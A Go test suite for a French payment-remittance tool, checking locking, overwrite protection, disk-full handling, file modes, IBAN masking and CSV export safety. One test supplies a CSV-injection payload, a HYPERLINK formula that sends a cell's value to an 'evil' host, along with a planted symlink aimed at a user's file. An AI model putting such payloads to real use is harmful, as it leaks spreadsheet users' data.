package main

// Reliability and security tests (issue 16): each runs the binary the way a
// user, a cron job or an attacker would, and asserts exit codes, bytes and
// file modes.

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/remit-dev/remit/remit/accounting"
)

// remittedWorkspace is a workspace where `remit run` remitted a small
// ledger with its slips: 001 and 002 SEPA (B2B, CORE), 003 LCR.
func remittedWorkspace(t *testing.T) (*workspace, ledger) {
	t.Helper()
	w := newWorkspace(t)
	w.initDB()
	l := genLedger(t, "A", 60)
	w.must("import", w.writeFile("receivables.csv", l.csv))
	w.must("run")
	if got := len(w.remittances()); got != 3 {
		t.Fatalf("%d remittances, want 3", got)
	}
	return w, l
}

func readOut(t *testing.T, w *workspace, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(w.out, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// Item 1: every recorded file, the slip included, comes back byte for byte
// from `remit regenerate`, and `remit bordereau` on another day prints the
// recorded slip again; a reprint with copies is regenerated with them.
func TestRegenerateRestoresEveryFile(t *testing.T) {
	w, _ := remittedWorkspace(t)
	later := []string{"REMIT_NOW=2027-03-01T17:45:12Z", "TZ=America/New_York"}
	for _, rem := range w.remittances() {
		originals := map[string][]byte{}
		for _, f := range rem.Files {
			originals[f.Name] = readOut(t, w, f.Name)
			os.Remove(filepath.Join(w.out, f.Name))
		}
		if _, ok := originals["BORDEREAU."+rem.Ref+".pdf"]; !ok {
			t.Fatalf("remittance %s records no slip: %+v", rem.Ref, rem.Files)
		}
		if r := w.runEnv(later, "regenerate", rem.Ref); r.code != 0 {
			t.Fatalf("%s", r)
		}
		for name, want := range originals {
			if got := readOut(t, w, name); string(got) != string(want) {
				t.Errorf("remittance %s: regenerated %s differs from the original", rem.Ref, name)
			}
		}
		slip := "BORDEREAU." + rem.Ref + ".pdf"
		if r := w.runEnv(later, "bordereau", rem.Ref); r.code != 0 {
			t.Fatalf("%s", r)
		}
		if got := readOut(t, w, slip); string(got) != string(originals[slip]) {
			t.Errorf("remit bordereau %s on another day: the slip differs from the recorded one", rem.Ref)
		}
	}

	// Two copies printed in place: recorded, and regenerated as such.
	w.must("bordereau", "002", "--copies", "2")
	twice := readOut(t, w, "BORDEREAU.002.pdf")
	var recorded string
	for _, f := range w.show("002").Files {
		if f.Format == "bordereau" {
			recorded = f.SHA256
		}
	}
	if sum, _ := sha256File(t, filepath.Join(w.out, "BORDEREAU.002.pdf")); sum != recorded {
		t.Fatalf("after --copies 2 the record says %s, the file is %s", recorded, sum)
	}
	os.Remove(filepath.Join(w.out, "BORDEREAU.002.pdf"))
	w.must("regenerate", "002")
	if got := readOut(t, w, "BORDEREAU.002.pdf"); string(got) != string(twice) {
		t.Error("regenerate 002: the two-copy slip differs from the one printed")
	}

	// A slip an older remit printed with the clock cannot come back: the
	// bank file does, the slip is named, exit 3, the slip left alone.
	db := w.sqlDB()
	if _, err := db.Exec(`UPDATE remittance_files SET copies = 0 WHERE remittance_id = 3 AND format = 'bordereau'`); err != nil {
		t.Fatal(err)
	}
	db.Close()
	bank := readOut(t, w, "PAIEMENT.003")
	os.Remove(filepath.Join(w.out, "PAIEMENT.003"))
	os.WriteFile(filepath.Join(w.out, "BORDEREAU.003.pdf"), []byte("old slip"), 0o600)
	r := w.run("regenerate", "003")
	if r.code != 3 || !strings.Contains(r.stderr, "not regenerated: BORDEREAU.003.pdf: printed by an older remit") {
		t.Errorf("regenerate with an old slip: want exit 3 naming the slip\n%s", r)
	}
	if got := readOut(t, w, "PAIEMENT.003"); string(got) != string(bank) {
		t.Error("regenerate 003: the bank file was not restored")
	}
	if got := readOut(t, w, "BORDEREAU.003.pdf"); string(got) != "old slip" {
		t.Error("regenerate 003 overwrote the old slip it cannot reproduce")
	}

	// A slip printed by a remit that laid slips out otherwise (a column
	// widened since, a code printed smaller) cannot come back byte for
	// byte either: the bank files, which are its data, do; the slip is
	// named and left alone (regenerate failed on it, restoring nothing).
	db = w.sqlDB()
	if _, err := db.Exec(`UPDATE remittance_files SET sha256 = ? WHERE remittance_id = 1 AND format = 'bordereau'`,
		strings.Repeat("0", 64)); err != nil {
		t.Fatal(err)
	}
	db.Close()
	bank = readOut(t, w, "PAIEMENT.001.xml")
	os.Remove(filepath.Join(w.out, "PAIEMENT.001.xml"))
	os.WriteFile(filepath.Join(w.out, "BORDEREAU.001.pdf"), []byte("slip of another layout"), 0o600)
	r = w.run("regenerate", "001")
	if r.code != 3 || !strings.Contains(r.stderr, "not regenerated: BORDEREAU.001.pdf: printed by another version of remit, "+
		"which laid slips out otherwise: left as it is; `remit bordereau 001` prints it again and records the new one") {
		t.Errorf("regenerate with a slip of another layout: want exit 3 naming the slip\n%s", r)
	}
	if got := readOut(t, w, "PAIEMENT.001.xml"); string(got) != string(bank) {
		t.Error("regenerate 001: the bank file was not restored")
	}
	if got := readOut(t, w, "BORDEREAU.001.pdf"); string(got) != "slip of another layout" {
		t.Error("regenerate 001 overwrote the slip it cannot reproduce")
	}
	// Its data file changed is still a failure, and nothing is written.
	db = w.sqlDB()
	if _, err := db.Exec(`UPDATE remittance_files SET sha256 = ? WHERE remittance_id = 1 AND format != 'bordereau'`,
		strings.Repeat("0", 64)); err != nil {
		t.Fatal(err)
	}
	db.Close()
	os.Remove(filepath.Join(w.out, "PAIEMENT.001.xml"))
	if r := w.run("regenerate", "001"); r.code != 1 || !strings.Contains(r.stderr, "regenerated file differs from the recorded sha256") {
		t.Errorf("regenerate with a bank file that differs: want exit 1\n%s", r)
	}
	if _, err := os.Stat(filepath.Join(w.out, "PAIEMENT.001.xml")); err == nil {
		t.Error("regenerate wrote a bank file that differs from the recorded one")
	}
}

// Item 2: the run lock is the database file's, whatever path reaches it: a
// run through a symbolic link waits for a run through the real name, and a
// database file with several hard links is refused by every command (two
// names would give SQLite two journals for one database).
func TestRunLockFollowsTheFile(t *testing.T) {
	w := newWorkspace(t)
	w.initDB()
	l := genLedger(t, "A", 60)
	w.must("import", w.writeFile("receivables.csv", l.csv))
	link := filepath.Join(w.dir, "s.db")
	if err := os.Symlink("remit.db", link); err != nil {
		t.Fatal(err)
	}

	release := holdRunLock(t, w)
	r := w.run("--db", link, "run", "--wait", "0s")
	if r.code != 4 || !strings.Contains(r.stderr, "busy") {
		t.Errorf("a run through a symbolic link while the real name's run holds the lock: want exit 4 (busy)\n%s", r)
	}
	release()

	// Runs through both names at once: one remits everything, once.
	var wg sync.WaitGroup
	results := make([]result, 6)
	for i := range results {
		wg.Add(1)
		go func() {
			defer wg.Done()
			db := w.db
			if i%2 == 1 {
				db = link
			}
			results[i] = w.run("--db", db, "run", "--no-bordereau")
		}()
	}
	wg.Wait()
	for _, r := range results {
		if r.code != 0 {
			t.Errorf("%s", r)
		}
	}
	c := w.checkConsistent(l.docs, false)
	if c.remitted != len(l.docs) || len(w.remittances()) != 3 {
		t.Errorf("%d of %d remitted in %d remittances, want all in 3", c.remitted, len(l.docs), len(w.remittances()))
	}
	if _, err := os.Stat(link + ".lock"); err == nil {
		t.Error("a run through the symbolic link made its own lock file")
	}

	hard := filepath.Join(w.dir, "h.db")
	if err := os.Link(w.db, hard); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"--db", hard, "run"}, {"--db", w.db, "run"}, {"--db", hard, "list"}, {"--db", link, "remittances"}, {"--db", hard, "init"}} {
		r := w.run(args...)
		if r.code != 2 || !strings.Contains(r.stderr, "several names (hard links)") || !strings.Contains(r.stderr, "symbolic link") {
			t.Errorf("a database file with two hard links: want exit 2 saying why\n%s", r)
		}
	}
	for _, name := range []string{"h.db-wal", "h.db-shm", "h.db.lock"} {
		if _, err := os.Stat(filepath.Join(w.dir, name)); err == nil {
			t.Errorf("%s was created for the second name", name)
		}
	}
}

// Item 3: no file-name template, -o path or template change lets one
// document replace another: a template giving a PDF name is refused, a
// document never replaces a recorded remittance file, and a remittance
// never replaces another's.
func TestNoDocumentOverwritesAnother(t *testing.T) {
	base := newWorkspace(t)
	base.initDB()
	l := genLedger(t, "A", 60)
	base.must("import", base.writeFile("receivables.csv", l.csv))
	for _, tmpl := range []string{"TRAITES.{ref}.pdf", "BORDEREAU.{ref}.pdf", "bordereau.{ref}.PDF", "ECHEANCES.{ref}.pdf", "{ref}.pdf"} {
		w := base.clone(t)
		w.env = []string{"REMIT_FILES_TEMPLATE=" + tmpl}
		r := w.run("run")
		if (r.code != 1 && r.code != 2) || !strings.Contains(r.stdout+r.stderr, "names ending in .pdf are remit's documents") {
			t.Errorf("template %s: want a refusal saying why\n%s", tmpl, r)
		}
		if n := w.queryInt(`SELECT count(*) FROM remittances`); n != 0 {
			t.Errorf("template %s: %d remittances", tmpl, n)
		}
		if entries, _ := os.ReadDir(w.out); len(entries) != 0 {
			t.Errorf("template %s: %d files in out/", tmpl, len(entries))
		}
	}

	w := base.clone(t)
	w.must("run")
	bank := readOut(t, w, "PAIEMENT.003")
	sepaFile := readOut(t, w, "PAIEMENT.001.xml")
	for _, args := range [][]string{
		{"traites", "3", "-o", filepath.Join(w.out, "PAIEMENT.003")},
		{"bordereau", "3", "-o", filepath.Join(w.out, "PAIEMENT.003")},
		{"bordereau", "2", "-o", filepath.Join(w.out, "BORDEREAU.001.pdf")},
		{"list", "--format", "pdf", "-o", filepath.Join(w.out, "PAIEMENT.001.xml")},
		{"--out", filepath.Join(w.dir, ".", "out"), "traites", "3", "-o", "out/PAIEMENT.003"},
	} {
		r := w.run(args...)
		if r.code != 1 || !strings.Contains(r.stderr, "name taken by a remittance's file") {
			t.Errorf("want exit 1, the file named as a remittance's\n%s", r)
		}
	}
	if got := readOut(t, w, "PAIEMENT.003"); string(got) != string(bank) {
		t.Error("PAIEMENT.003 was overwritten by a document")
	}
	if got := readOut(t, w, "PAIEMENT.001.xml"); string(got) != string(sepaFile) {
		t.Error("PAIEMENT.001.xml was overwritten by a document")
	}
	// Item 11: -o FOLDER writes the document's own name into it.
	r := w.must("traites", "3", "-o", w.out)
	if want := filepath.Join(w.out, "TRAITES.003.pdf"); strings.TrimSpace(r.stdout[:strings.Index(r.stdout, "\n")]) != want {
		t.Errorf("traites -o FOLDER: %s, want %s", r.stdout, want)
	}
	readOut(t, w, "TRAITES.003.pdf")

	// A name an earlier remittance records (as after a template change) is
	// not replaced: the run fails, nothing is committed.
	db := w.sqlDB()
	if _, err := db.Exec(`UPDATE remittance_files SET name = 'PAIEMENT.005.xml' WHERE name = 'PAIEMENT.002.xml'`); err != nil {
		t.Fatal(err)
	}
	db.Close()
	os.Rename(filepath.Join(w.out, "PAIEMENT.002.xml"), filepath.Join(w.out, "PAIEMENT.005.xml"))
	recorded := readOut(t, w, "PAIEMENT.005.xml")
	b := genLedger(t, "B", 60)
	w.must("import", w.writeFile("b.csv", b.csv))
	r = w.run("run", "--json")
	if r.code != 1 || !strings.Contains(r.stdout+r.stderr, "PAIEMENT.005.xml: name taken by a remittance's file (remittance 002)") {
		t.Errorf("a run whose file name another remittance records: want exit 1 naming it\n%s", r)
	}
	if got := readOut(t, w, "PAIEMENT.005.xml"); string(got) != string(recorded) {
		t.Error("remittance 002's file was overwritten")
	}
}

// Item 8: a pending mark remit did not write never makes it delete a file:
// neither an empty one, nor one that names the file but not the file remit
// wrote, nor a link; a crash's own marks still do their job (the crash
// suite).
func TestPlantedPendingMarks(t *testing.T) {
	w := newWorkspace(t)
	w.initDB()
	l := genLedger(t, "A", 30)
	w.must("import", w.writeFile("receivables.csv", l.csv))
	os.MkdirAll(w.out, 0o700)
	planted := map[string]string{
		".notes.txt.remit-pending":  "",
		".report.txt.remit-pending": "remit pending file\nrun x\nfile report.txt\ndev 1\ninode 1\n",
	}
	for name, content := range planted {
		os.WriteFile(filepath.Join(w.out, name), []byte(content), 0o600)
	}
	for _, name := range []string{"notes.txt", "report.txt", "secret.txt"} {
		os.WriteFile(filepath.Join(w.out, name), []byte("the user's "+name), 0o600)
	}
	os.Symlink("secret.txt", filepath.Join(w.out, ".secret.txt.remit-pending"))
	w.must("run")
	for _, name := range []string{"notes.txt", "report.txt", "secret.txt"} {
		if got, err := os.ReadFile(filepath.Join(w.out, name)); err != nil || string(got) != "the user's "+name {
			t.Errorf("out/%s: %q, %v: a planted mark made remit touch it", name, got, err)
		}
	}
	if c := w.checkConsistent(l.docs, true); c.remitted != len(l.docs) {
		t.Errorf("%d of %d remitted", c.remitted, len(l.docs))
	}
}

// mountTmpfs mounts a tmpfs of size bytes on dir, for the disk-full tests.
// It needs root (CAP_SYS_ADMIN): elsewhere the test skips, or fails under
// CI=true.
func mountTmpfs(t *testing.T, dir string, size int64) {
	t.Helper()
	os.MkdirAll(dir, 0o700)
	out, err := exec.Command("mount", "-t", "tmpfs", "-o", fmt.Sprintf("size=%d,mode=0700", size), "tmpfs", dir).CombinedOutput()
	if err != nil {
		msg := fmt.Sprintf("cannot mount a tmpfs for the disk-full test (needs root): %v %s", err, out)
		if os.Getenv("CI") == "true" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
	t.Cleanup(func() {
		if out, err := exec.Command("umount", dir).CombinedOutput(); err != nil {
			t.Errorf("umount %s: %v %s", dir, err, out)
		}
	})
}

func remountTmpfs(t *testing.T, dir string, size int64) {
	t.Helper()
	if out, err := exec.Command("mount", "-o", fmt.Sprintf("remount,size=%d", size), dir).CombinedOutput(); err != nil {
		t.Fatalf("remount %s: %v %s", dir, err, out)
	}
}

// lcrHeavyLedger is a ledger of n LCR receivables and a few direct debits:
// its LCR file and slip are much larger than its SEPA ones.
func lcrHeavyLedger(t *testing.T, n int) ledger {
	t.Helper()
	all := genLedger(t, "A", 6*n)
	lines := strings.SplitAfter(string(all.csv), "\n")
	var b strings.Builder
	b.WriteString(lines[0])
	l := ledger{}
	sdd := 0
	for _, line := range lines[1:] {
		isLCR := strings.Contains(line, ",lcr,")
		if line == "" || !isLCR && sdd >= 10 {
			continue
		}
		if !isLCR {
			sdd++
		}
		b.WriteString(line)
		l.docs = append(l.docs, line[:strings.Index(line, ",")])
	}
	l.csv = []byte(b.String())
	return l
}

func pages(n int64) int64 { return (n + 4095) / 4096 * 4096 }

// Items 9 and 11: the disk fills up during the LCR part of a run (a tmpfs
// as out/): the run fails (exit 1, "failed", the error in the JSON) with
// the SEPA part committed and listed, and leaves nothing of the failed part
// in out/: no temporary file, no mark, no file no remittance records, be
// it the bank file (no room for it) or the bank file written before its
// slip found no room. With room again, the next run does the LCR part.
func TestDiskFullDuringLCR(t *testing.T) {
	base := newWorkspace(t)
	base.initDB()
	l := lcrHeavyLedger(t, 1000)
	base.must("import", base.writeFile("receivables.csv", l.csv))
	ref := base.clone(t)
	ref.must("run")
	var sepaBytes, lcrFile, lcrSlip int64
	sepaRems, lcrRef := 0, ""
	for _, rem := range ref.remittances() {
		if rem.Kind == "sdd" {
			sepaRems++
		} else {
			lcrRef = rem.Ref
		}
		for _, f := range rem.Files {
			switch {
			case rem.Kind == "sdd":
				sepaBytes += pages(f.Size) + 4096 // and its mark
			case f.Format == "bordereau":
				lcrSlip = f.Size
			default:
				lcrFile = f.Size
			}
		}
	}
	if lcrFile < 100_000 || lcrSlip < 5*4096 {
		t.Fatalf("the LCR file (%d bytes) and slip (%d) are too small for the test", lcrFile, lcrSlip)
	}
	for _, tc := range []struct {
		name   string
		room   int64  // bytes of the tmpfs
		missed string // the file that finds no room
		errHas string
	}{
		// The file is named as the user knows it, not by its temporary name.
		{"bank-file", sepaBytes + 4*4096, "PAIEMENT." + lcrRef, filepath.Join("out", "PAIEMENT."+lcrRef) + ": no space left on device"},
		{"slip-after-bank-file", sepaBytes + pages(lcrFile) + 3*4096, "BORDEREAU." + lcrRef + ".pdf", "bordereau of remittance " + lcrRef},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := base.clone(t)
			w.t = t
			mountTmpfs(t, w.out, tc.room)
			r := w.run("run", "--json")
			var sum struct {
				Status      string `json:"status"`
				ExitStatus  int    `json:"exit_status"`
				Remittances []struct {
					Ref  string `json:"ref"`
					Kind string `json:"kind"`
				} `json:"remittances"`
				Failures []struct {
					Kind  string `json:"kind"`
					Error string `json:"error"`
				} `json:"failures"`
			}
			if err := json.Unmarshal([]byte(r.stdout), &sum); err != nil {
				t.Fatalf("%v\n%s", err, r)
			}
			if r.code != 1 || sum.Status != "failed" || sum.ExitStatus != 1 {
				t.Errorf("disk full during LCR: exit %d, status %q (%d), want exit 1, failed\n%s", r.code, sum.Status, sum.ExitStatus, r)
			}
			if len(sum.Failures) != 1 || sum.Failures[0].Kind != "lcr" || !strings.Contains(sum.Failures[0].Error, "no space left on device") ||
				!strings.Contains(sum.Failures[0].Error, tc.errHas) {
				t.Errorf("failures %+v: want the LCR part with its error", sum.Failures)
			}
			if len(sum.Remittances) != sepaRems || len(w.remittances()) != sepaRems {
				t.Errorf("remittances %+v: want the %d SEPA ones listed and committed", sum.Remittances, sepaRems)
			}
			c := w.checkConsistent(l.docs, false) // nothing in out/ that no remittance records
			if c.pointed != 1000 {
				t.Errorf("%d receivables still pointed, want the 1000 LCR ones", c.pointed)
			}

			remountTmpfs(t, w.out, 8<<20)
			w.must("run")
			c = w.checkConsistent(l.docs, false)
			if c.remitted != len(l.docs) {
				t.Errorf("with room again: %d of %d remitted", c.remitted, len(l.docs))
			}
			if _, err := os.Stat(filepath.Join(w.out, tc.missed)); err != nil {
				t.Error(err)
			}
		})
	}
}

// Item 7: under umask 022 the database, its -wal and -shm (and the run
// lock) are created 0600: they hold every debtor's IBAN, name and address.
// An older database readable by others is pointed out by `remit init`.
func TestDatabaseFileModes(t *testing.T) {
	w := newWorkspace(t)
	sh := func(args ...string) result {
		t.Helper()
		cmd := exec.Command("sh", append([]string{"-c", `umask 022 && exec "$0" "$@"`, remitBinary(t), "--db", w.db, "--out", w.out}, args...)...)
		cmd.Dir, cmd.Env = w.dir, append(baseEnv(), "REMIT_CRASH_AT=after-commit")
		var stdout, stderr strings.Builder
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		err := cmd.Run()
		r := result{args: args, stdout: stdout.String(), stderr: stderr.String()}
		r.code, r.killed = exitStatus(t, cmd, err)
		return r
	}
	if r := sh("init"); r.code != 0 || strings.Contains(r.stderr, "read by other users") {
		t.Fatalf("%s", r)
	}
	sh(creditorArgs...)
	l := genLedger(t, "A", 30)
	sh("import", w.writeFile("receivables.csv", l.csv))
	// Killed right after its commit, the run leaves the -wal and -shm.
	if r := sh("run", "--no-bordereau"); !r.killed {
		t.Fatalf("the run was not killed after its commit: %s", r)
	}
	for _, name := range []string{"remit.db", "remit.db-wal", "remit.db-shm", "remit.db.lock", "out"} {
		fi, err := os.Stat(filepath.Join(w.dir, name))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if perm := fi.Mode().Perm(); perm&0o077 != 0 {
			t.Errorf("%s: mode %04o under umask 022, want no access for others", name, perm)
		}
	}
	os.Chmod(w.db, 0o644)
	if r := sh("init"); r.code != 0 || !strings.Contains(r.stderr, "can be read by other users (0644)") {
		t.Errorf("init on a database readable by others: want a note\n%s", r)
	}
}

// Item 6: an IBAN in a refusal (another program wrote a bad one; an LCR on
// a foreign account) is masked wherever the refusal is stored or printed:
// run --json, the text summary, the logs, remit list in every format, and
// the database's refusal column.
func TestRefusalsMaskIBANs(t *testing.T) {
	base := newWorkspace(t)
	base.initDB()
	l := genLedger(t, "A", 60)
	base.must("import", base.writeFile("receivables.csv", l.csv))
	const badFR, dutch = "FR7617919001310000110472971", "NL91ABNA0417164300"
	db := base.sqlDB()
	for _, q := range []string{
		`UPDATE customers SET iban = '` + badFR + `' WHERE id = (SELECT customer_id FROM receivables WHERE method = 'sdd' ORDER BY id LIMIT 1)`,
		`UPDATE mandates SET iban = '` + badFR + `' WHERE customer_id = (SELECT customer_id FROM receivables WHERE method = 'sdd' ORDER BY id LIMIT 1)`,
		`UPDATE customers SET iban = '` + dutch + `' WHERE id = (SELECT customer_id FROM receivables WHERE method = 'lcr' ORDER BY id LIMIT 1)`,
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	db.Close()
	check := func(what, s string) {
		t.Helper()
		for _, iban := range []string{badFR, dutch} {
			if strings.Contains(s, iban) {
				t.Errorf("%s shows %s in clear:\n%s", what, iban, clip(s))
			}
		}
	}
	for _, args := range [][]string{{"run", "--json"}, {"run"}, {"run", "--log-format", "json"}} {
		w := base.clone(t)
		r := w.run(args...)
		if r.code != 3 {
			t.Fatalf("want exit 3 (refusals)\n%s", r)
		}
		if !strings.Contains(r.stdout, "FR76*******************2971") || !strings.Contains(r.stdout, "NL91**********4300") {
			t.Errorf("the refusals do not show the masked IBANs\n%s", r)
		}
		check(strings.Join(args, " ")+" stdout", r.stdout)
		check(strings.Join(args, " ")+" stderr", r.stderr)
		if len(args) != 2 || args[1] != "--json" {
			continue
		}
		for _, format := range []string{"table", "csv", "json"} {
			r := w.must(append([]string{"list", "--status", "pointed", "--format", format}, everything...)...)
			check("list --format "+format, r.stdout)
		}
		db := w.sqlDB()
		var stored string
		db.QueryRow(`SELECT group_concat(refusal, ' | ') FROM receivables WHERE refusal != ''`).Scan(&stored)
		db.Close()
		if stored == "" {
			t.Error("no refusal stored")
		}
		check("the refusal column", stored)
	}

	// An import whose line has a bad IBAN names the line and the column and
	// shows the account masked on stderr, in JSON logs and in --json; the
	// rejected lines keep it whole, for the correction. It showed it in clear.
	w := base.clone(t)
	in := w.writeFile("bad.csv", []byte("document,customer,name,amount,due_date,method,iban,mandate,mandate_signed,town,country\n"+
		"Z1,411Z,Zed,10.00,2026-12-15,sdd,"+badFR+",RUM-Z,2025-01-15,Lyon,FR\n"))
	for _, args := range [][]string{{"import", in}, {"import", in, "--log-format", "json"}, {"import", in, "--json"},
		{"import", in, "--skip-invalid", "--json"}} {
		r := w.run(args...)
		unquoted := strings.ReplaceAll(r.stdout+r.stderr, `\"`, `"`) // in JSON
		if r.code != 1 && r.code != 5 || !strings.Contains(unquoted, `line 2, column iban "FR76*******************2971": bad check digits`) {
			t.Errorf("%s: want the problem with the IBAN masked\n%s", strings.Join(args, " "), r)
		}
		check(strings.Join(args, " "), r.stdout+r.stderr)
	}
	if b := readFile(t, filepath.Join(w.dir, "bad.rejected.csv")); !strings.Contains(b, badFR) {
		t.Errorf("the rejected lines lost the IBAN to correct:\n%s", b)
	}
}

// Item 4: what a spreadsheet would run as a formula (=, +, -, @, tab, CR
// first) is neutralised with a leading apostrophe in every CSV export
// (remit list, remit entries --format csv, the FEC in both encodings), and
// refused at the start of a code on import.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	w := newWorkspace(t)
	w.initDB()
	hostile := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, `@SUM(A1:A2)`, `+33 1 23 45 67 89`, `-2+3`, "=411EQ"}
	var b strings.Builder
	b.WriteString(csvHeader)
	cw := csv.NewWriter(&b)
	for i, s := range hostile {
		for j, method := range []string{"sdd", "lcr"} {
			mandate, signed := "", ""
			if method == "sdd" {
				mandate, signed = fmt.Sprintf("RUM-F-%d", i), "2025-01-15"
			}
			cw.Write([]string{fmt.Sprintf("F%d%s", i, method), fmt.Sprintf("411F%d%s", i, method), s, "12.34", "2026-12-15", method,
				frenchIBAN(t, 30004, 100+i, int64(1000+j)), "BNPAFRPP", mandate, signed, "", "", "accepted", s, "1", "75002", "Paris",
				"FR", s, "", s, "yes"})
		}
	}
	cw.Flush()
	w.must("import", w.writeFile("hostile.csv", []byte(b.String())))
	w.must("run")

	checkCells := func(what string, cells []string) {
		t.Helper()
		for _, c := range cells {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s: cell %q would run as a formula", what, c)
			}
		}
	}
	readCSV := func(what, data string) [][]string {
		t.Helper()
		recs, err := csv.NewReader(strings.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		for _, rec := range recs {
			checkCells(what, rec)
		}
		return recs
	}
	list := w.must(append([]string{"list", "--status", "all", "--format", "csv"}, everything...)...)
	if recs := readCSV("list", list.stdout); len(recs) != 1+2*len(hostile) {
		t.Errorf("list: %d records", len(recs))
	}
	if !strings.Contains(list.stdout, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`) {
		t.Errorf("list: the hostile name is not shown neutralised:\n%s", list.stdout)
	}
	entries := w.must("entries", "1", "2", "--format", "csv")
	readCSV("entries --format csv", entries.stdout)
	if !strings.Contains(entries.stdout, "'@SUM(A1:A2)") {
		t.Errorf("entries csv: the hostile label is not shown neutralised:\n%s", clip(entries.stdout))
	}
	for _, enc := range []string{"utf-8", "iso-8859-15"} {
		fec := w.must("entries", "1", "2", "--format", "fec", "--encoding", enc)
		for _, line := range strings.Split(strings.TrimSuffix(fec.stdout, "\r\n"), "\r\n") {
			checkCells("FEC "+enc, strings.Split(line, "\t"))
		}
		checkFECLayout(t, "FEC "+enc, fec.stdout)
		if !strings.Contains(fec.stdout, "\t'+33 1 23 45 67 89\t") {
			t.Errorf("FEC %s: the hostile name is not shown neutralised", enc)
		}
	}

	// Codes that would be formulas are refused on import, each named.
	bad := csvHeader + "=F1,411A,A,1.00,2026-12-15,,,,,,,,,,,,,,,,,\nF2,@411B,B,1.00,2026-12-15,,,,,,,,,,,,,,,,,\n"
	r := w.run("import", w.writeFile("codes.csv", []byte(bad)))
	if r.code != 1 || !strings.Contains(r.stderr, `line 2, column document "=F1": starts with =, +, - or @`) ||
		!strings.Contains(r.stderr, `line 3, column customer "@411B": starts with =, +, - or @`) {
		t.Errorf("codes starting with = or @: want both lines refused\n%s", r)
	}
}

// checkFECLayout checks what the administration's test of a FEC (Test
// Compta Demat) reads first: the 18 columns named in order, tab-separated,
// lines ended by CR LF, every line of 18 fields, EcritureNum a number,
// dates AAAAMMJJ (EcritureDate, PieceDate and ValidDate always, DateLet when
// lettered), Debit and Credit with a comma and two decimals, no sign, no
// apostrophe: a neutralised text never reaches a number.
func checkFECLayout(t *testing.T, what, fec string) {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(fec, "\r\n"), "\r\n")
	if lines[0] != strings.Join(accounting.FECColumns, "\t") || strings.Contains(strings.ReplaceAll(fec, "\r\n", ""), "\n") {
		t.Fatalf("%s: header %q, or a line not ended by CR LF", what, lines[0])
	}
	number, date, amount := regexp.MustCompile(`^[0-9]+$`), regexp.MustCompile(`^20[0-9]{6}$`), regexp.MustCompile(`^[0-9]+,[0-9]{2}$`)
	for i, line := range lines[1:] {
		f := strings.Split(line, "\t")
		if len(f) != 18 {
			t.Errorf("%s: line %d has %d fields: %q", what, i+2, len(f), line)
			continue
		}
		ok := number.MatchString(f[2]) && date.MatchString(f[3]) && date.MatchString(f[9]) && date.MatchString(f[15]) &&
			amount.MatchString(f[11]) && amount.MatchString(f[12]) && (f[14] == "" || date.MatchString(f[14])) && f[16] == "" && f[17] == ""
		if !ok || f[0] == "" || f[4] == "" || f[8] == "" || f[10] == "" {
			t.Errorf("%s: line %d is not in the FEC's layout: %q", what, i+2, line)
		}
	}
}

// rssRunnerEnv makes the test binary a runner (see TestMain): it runs the
// command its value holds (JSON) and writes the command's peak memory to
// the file $REMIT_TEST_RSS_FILE. A process's peak memory counts the memory
// of the process that started it until its exec, so the test process,
// which holds the hostile files, cannot measure remit directly.
const rssRunnerEnv = "REMIT_TEST_RSS_RUNNER"

func rssRunner(args string) int {
	var argv []string
	if err := json.Unmarshal([]byte(args), &argv); err != nil || len(argv) == 0 {
		fmt.Fprintln(os.Stderr, "rss runner:", err)
		return 125
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	err := cmd.Run()
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		os.WriteFile(os.Getenv("REMIT_TEST_RSS_FILE"), []byte(fmt.Sprint(ru.Maxrss<<10)), 0o600) // kilobytes on Linux
	}
	if err != nil && cmd.ProcessState == nil {
		return 126
	}
	return cmd.ProcessState.ExitCode()
}

// runRSS runs remit and returns what it did with its peak memory (RSS).
func (w *workspace) runRSS(args ...string) (result, int64) {
	w.t.Helper()
	remit := w.command(context.Background(), nil, args...)
	argv, _ := json.Marshal(remit.Args)
	rssFile := filepath.Join(w.t.TempDir(), "rss")
	cmd := exec.Command(os.Args[0])
	cmd.Dir, cmd.Env = remit.Dir, append(remit.Env, rssRunnerEnv+"="+string(argv), "REMIT_TEST_RSS_FILE="+rssFile)
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	start := time.Now()
	err := cmd.Run()
	r := result{args: args, stdout: stdout.String(), stderr: stderr.String(), took: time.Since(start)}
	r.code, r.killed = exitStatus(w.t, cmd, err)
	b, err := os.ReadFile(rssFile)
	if err != nil {
		w.t.Fatalf("no peak memory measured: %v\n%s", err, r)
	}
	rss, _ := strconv.ParseInt(string(b), 10, 64)
	return r, rss
}

// sparseFile writes head then size bytes of NUL in all (a sparse file: it
// costs no disk).
func sparseFile(t *testing.T, path, head string, size int64) string {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(head); err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(size); err != nil {
		t.Fatal(err)
	}
	return path
}

// maxRSS is the memory a hostile file may make remit use: well under the
// file's size.
const maxRSS = 120 << 20

// Item 5: memory and time are bounded by the input, whatever it holds: an
// import file with a 256 MB line, a 256 MB header of NULs or a quote left
// open, a return file with a 64 MB text, deep nesting, or many unknown
// transactions; each refused with the line and the limit, in little memory.
